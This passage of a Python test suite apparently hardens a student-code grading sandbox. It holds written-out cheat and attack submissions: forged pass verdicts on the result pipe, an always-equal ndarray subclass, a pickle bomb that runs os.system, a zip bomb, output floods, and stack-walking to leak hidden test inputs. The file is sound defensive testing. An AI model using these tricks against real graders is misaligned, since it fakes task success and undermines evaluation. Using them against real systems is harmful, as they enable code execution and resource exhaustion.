            try:
                setattr(module, attr, lambda *a, **k: {"ok": True, "passed": True})
            except Exception:
                pass
""",
    "sys-exit-at-import": """
sys.exit(0)
""",
    "sys-exit-in-softmax": """
def softmax(x):
    sys.exit(0)
""",
    "os-exit-at-import": """
os._exit(0)
""",
    "os-exit-in-softmax": """
def softmax(x):
    os._exit(0)
""",
    "exit-with-the-setup-failure-code": """
os._exit(70)
""",
    "exit-with-the-setup-failure-code-in-softmax": """
def softmax(x):
    os._exit(70)
""",
    "raise-keyboard-interrupt": """
def softmax(x):
    raise KeyboardInterrupt
""",
    "raise-system-exit": """
def softmax(x):
    raise SystemExit(0)
""",
    "raise-generator-exit": """
def softmax(x):
    raise GeneratorExit
""",
    "print-a-fake-verdict": """
import json
print(json.dumps({"status": "graded", "score": 10, "max_score": 10, "message": "8 of 8 checks passed",
                  "checks": [{"name": "vetor [2, 1, 0]", "passed": True, "score": 10}]}))
""",
    "fake-result-on-fd-3-then-exit": """
import json, struct
def frame(data):
    return struct.pack(">Q", len(data)) + data
calls = [{"ok": True, "value": 1.0, "stdout": "", "passed": True, "score": 10}] * 8
header = {"load": {"ok": True}, "calls": calls, "status": "graded", "score": 10, "passed": True}
os.write(3, frame(json.dumps(header).encode()) + frame(b""))
os._exit(0)
""",
    "fake-result-on-fd-3-then-carry-on": """
import json, struct
def frame(data):
    return struct.pack(">Q", len(data)) + data
os.write(3, frame(json.dumps({"load": {"ok": True}, "calls": [{"ok": True, "value": 0.5}] * 8}).encode()) + frame(b""))
""",
    "ndarray-subclass-always-equal": """
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(np.broadcast(*[np.asarray(i) for i in inputs]).shape, bool) if method == "__call__" else True
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __float__(self):
        return 0.0

def softmax(x):
    return np.zeros(np.shape(x)).view(Liar)
""",
    "return-a-broadcasting-scalar": """
def softmax(x):
    return 1 / 3
""",
    "return-a-numpy-scalar": """
def softmax(x):
    return np.float64(1 / 3)
""",
    "return-a-list-of-right-values": """
def softmax(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=0, keepdims=True))
    return (e / e.sum(axis=0, keepdims=True)).tolist()
""",
    "return-an-object-array": """
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickled",))

def softmax(x):
    return np.array([Evil()] * np.size(x), dtype=object)
""",
    "return-a-huge-nested-list": """
def softmax(x):
    value = []
    for _ in range(10**5):
        value = [value]
    return value
""",
    "return-a-very-wide-dict": """
def softmax(x):
    return {str(i): float(i) for i in range(10**6)}
""",
    "return-a-self-referencing-list": """
def softmax(x):
    value = []
    value.append(value)
    return value
""",
    "return-a-generator-and-a-module": """
def softmax(x):
    return (v for v in range(3)), np
""",
    "return-a-structured-array": """
def softmax(x):
    return np.zeros(np.shape(x), dtype=[("a", "f8"), ("b", "O")])
""",
    "recursive-import-of-itself": """
import submission
""",
    "recursive-dunder-import": """
__import__(__name__)
""",
    "close-the-result-pipe": """
os.close(3)
""",
    "result-pipe-to-dev-null": """
os.dup2(os.open("/dev/null", os.O_WRONLY), 3)
""",
    "thread-writes-garbage-on-the-result-pipe": """
import threading, time

def scribble():
    while True:
        try:
            os.write(3, b"{\\"calls\\": [], \\"score\\": 10}")
        except OSError:
            return
        time.sleep(0.001)

threading.Thread(target=scribble, daemon=True).start()
""",
}


@pytest.mark.parametrize("name", list(CHEATS))
def test_cheating_the_verdict(name, host, worker, student, exercise):
    submission = submit(student, exercise, fill(CHEATS[name]))
    assert not (submission.checks and all(check["passed"] for check in submission.checks))
    assert not os.path.exists("/tmp/pickled")
    assert_contained(submission, host, student, exercise)


def _pickled_npz_source(marker: Path) -> str:
    return fill(
        """
import io, json, struct

class Evil:
    def __reduce__(self):
        return (os.system, (@COMMAND@,))

buffer = io.BytesIO()
np.savez(buffer, a0=np.array([Evil()], dtype=object))
def frame(data):
    return struct.pack(">Q", len(data)) + data
calls = [{"ok": True, "value": {"__array__": "a0"}, "stdout": ""}] * 8
os.write(3, frame(json.dumps({"load": {"ok": True}, "calls": calls}).encode()) + frame(buffer.getvalue()))
os._exit(0)
""",
        COMMAND=f"touch {marker}",
    )


def test_a_pickle_bomb_in_the_result_is_never_unpickled(host, worker, student, exercise, token):
    marker = Path("/tmp") / f"unpickled-{token}"
    submission = submit(student, exercise, _pickled_npz_source(marker))
    time.sleep(0.5)
    assert not marker.exists(), "the harness unpickled the student's data"
    assert submission.status == Submission.Status.ERROR
    assert "cannot be read" in submission.message
    assert_contained(submission, host, student, exercise)


def _pool_peak_rss_kb(worker) -> dict[int, int]:
    peaks = {}
    for pid, (ppid, _, argv) in process_table().items():
        if ppid == worker.process.pid and not any(a.endswith("zygote.py") for a in argv):
            status = _read(f"/proc/{pid}/status") or ""
            for line in status.splitlines():
                if line.startswith("VmHWM:"):
                    peaks[pid] = int(line.split()[1])
    return peaks


def test_a_zip_bomb_in_the_result_is_not_inflated_by_the_harness(host, worker, student, exercise):
    """An .npz whose member is deflated: 1 MiB on the wire, 1 GiB once the harness reads it."""
    source = fill("""
import json, struct, zlib

SIZE = 1 << 30
header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % (SIZE // 8)
header = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", 118) + header.ljust(117) + b"\\n"
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
chunk = packer.compress(b"\\0" * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
head = packer.compress(header) + packer.flush(zlib.Z_FULL_FLUSH)
data = head + chunk * (SIZE >> 20) + packer.flush()
crc = zlib.crc32(header)
zero = b"\\0" * (1 << 20)
for _ in range(SIZE >> 20):
    crc = zlib.crc32(zero, crc)
name = b"a0.npy"
extra = struct.pack("<HHQQ", 1, 16, len(header) + SIZE, len(data))
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF,
                      len(name), len(extra), 0, 0, 0, 0, 0) + name + extra
body = local + name + extra + data
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
archive = body + central + end

def frame(blob):
    return struct.pack(">Q", len(blob)) + blob
calls = [{"ok": True, "value": {"__array__": "a0"}, "stdout": ""}] * 8
os.write(3, frame(json.dumps({"load": {"ok": True}, "calls": calls}).encode()) + frame(archive))
os._exit(0)
""")
    before = _pool_peak_rss_kb(worker)
    submission = submit(student, exercise, source)
    after = _pool_peak_rss_kb(worker)
    grown = max((after[pid] - before.get(pid, 0) for pid in after), default=0)
    assert grown < 256 * 1024, f"the harness inflated the student's archive: {grown // 1024} MiB more at its peak"
    assert submission.status == Submission.Status.ERROR and "cannot be read" in submission.message
    assert_contained(submission, host, student, exercise)


def test_one_array_named_many_times_in_the_result_is_not_copied_many_times(host, worker, student, exercise):
    """A 1 MiB array, stored once, named 1024 times: each name would be a fresh copy in the harness."""
    source = fill("""
import io, json, struct
buffer = io.BytesIO()
np.savez(buffer, a0=np.zeros(1 << 17))
def frame(data):
    return struct.pack(">Q", len(data)) + data
calls = [{"ok": True, "value": [{"__array__": "a0"}] * 128, "stdout": ""}] * 8
os.write(3, frame(json.dumps({"load": {"ok": True}, "calls": calls}).encode()) + frame(buffer.getvalue()))
os._exit(0)
""")
    before = _pool_peak_rss_kb(worker)
    submission = submit(student, exercise, source)
    after = _pool_peak_rss_kb(worker)
    grown = max((after[pid] - before.get(pid, 0) for pid in after), default=0)
    assert grown < 256 * 1024, f"the harness copied the array for every name: {grown // 1024} MiB more at its peak"
    assert submission.status == Submission.Status.ERROR and "cannot be read" in submission.message
    assert_contained(submission, host, student, exercise)


# == 7. output ======================================================================================

OUTPUT_FLOODS = {
    "50MB-print-at-import": """
line = "spam " * 200 + "\\n"
for _ in range(50 * 1000):
    print(line, end="")
""",
    "50MB-print-in-softmax": """
line = "spam " * 200 + "\\n"

def softmax(x):
    for _ in range(50 * 1000):
        print(line, end="")
    return wrong_softmax(x)
""",
    "50MB-to-fd-1-and-2": """
block = b"flood" * 200_000
for _ in range(50):
    os.write(1, block)
    os.write(2, block)
""",
    "50MB-to-fd-1-and-2-in-softmax": """
block = b"flood" * 200_000

def softmax(x):
    for _ in range(10):
        os.write(1, block)
        os.write(2, block)
    return wrong_softmax(x)
""",
    "non-utf8-bytes": """
os.write(1, b"\\xff\\xfe\\xc3\\x28 invalid \\xa0\\xa1 utf-8 \\xf0\\x28\\x8c\\x28\\n")
""",
    "1MiB-of-non-utf8-bytes": """
os.write(1, b"\\xff" * (2 << 20))
""",
    "1MiB-of-control-characters": """
os.write(1, b"\\x01" * (2 << 20))
""",
    "nul-bytes-in-output": """
print("before\\0after")
os.write(1, b"raw\\0nul\\n")

def softmax(x):
    print("in softmax\\0")
    return wrong_softmax(x)
""",
    "lone-surrogates-in-output": """
def softmax(x):
    print("lone \\ud800 surrogate")
    return wrong_softmax(x)
""",
    "lone-surrogates-in-an-exception": """
def softmax(x):
    raise ValueError("lone \\udfff surrogate \\0 and nul")
""",
    "nul-in-an-exception-at-import": """
raise ValueError("nul \\0 at import \\udc80")
""",
}


@pytest.mark.parametrize("name", list(OUTPUT_FLOODS))
def test_output_floods_and_bad_text(name, host, worker, student, exercise):
    started = time.monotonic()
    submission = submit(student, exercise, fill(OUTPUT_FLOODS[name]))
    assert time.monotonic() - started < 30
    assert len(submission.stdout) <= 20_000 and len(submission.message) <= 20_000
    assert "\0" not in shown(submission)
    shown(submission).encode("utf-8")  # storable and showable: no lone surrogates
    assert_contained(submission, host, student, exercise)


# == 8. hidden inputs ===============================================================================


def test_hidden_inputs_do_not_leak_through_printed_output(host, worker, student, exercise):
    source = fill("""
frame = sys._getframe()
while frame is not None:
    arrays = frame.f_locals.get("arrays")
    if isinstance(arrays, dict):
        print("INPUTS", [np.asarray(a).ravel().tolist() for a in arrays.values()])
        break
    frame = frame.f_back
""")
    submission = submit(student, exercise, source)
    assert "INPUTS" in submission.stdout  # the attack ran
    checks, _ctx = load_bundle("softmax").build_checks(submission.seed)
    hidden = [np.asarray(arg) for c in checks if c.hidden for call in c.calls for arg in call.args]
    assert hidden
    for array in hidden:
        assert repr(float(array.ravel()[0])) not in submission.stdout, "a hidden input leaked"
    assert_contained(submission, host, student, exercise)
